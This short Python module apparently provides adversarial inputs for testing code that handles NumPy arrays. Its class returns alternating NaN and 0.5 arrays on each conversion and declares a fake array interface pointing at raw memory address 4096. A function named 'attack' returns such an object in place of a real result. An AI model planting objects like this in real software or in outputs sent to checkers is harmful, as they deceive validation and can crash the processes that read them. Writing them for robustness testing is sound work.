"""Returns objects that become another array each time they are asked."""

import numpy as np


class Shifting:
    def __init__(self, shape):
        self.shape, self.count = shape, 0

    def __array__(self, dtype=None, copy=None):
        self.count += 1
        return np.full(self.shape, np.nan if self.count % 2 else 0.5)

    @property
    def __array_interface__(self):
        return {"shape": (1 << 30,), "typestr": "<f8", "data": (4096, False), "version": 3}


def attack(name, *args, **kwargs):
    return Shifting(np.shape(args[0]) if args else ())
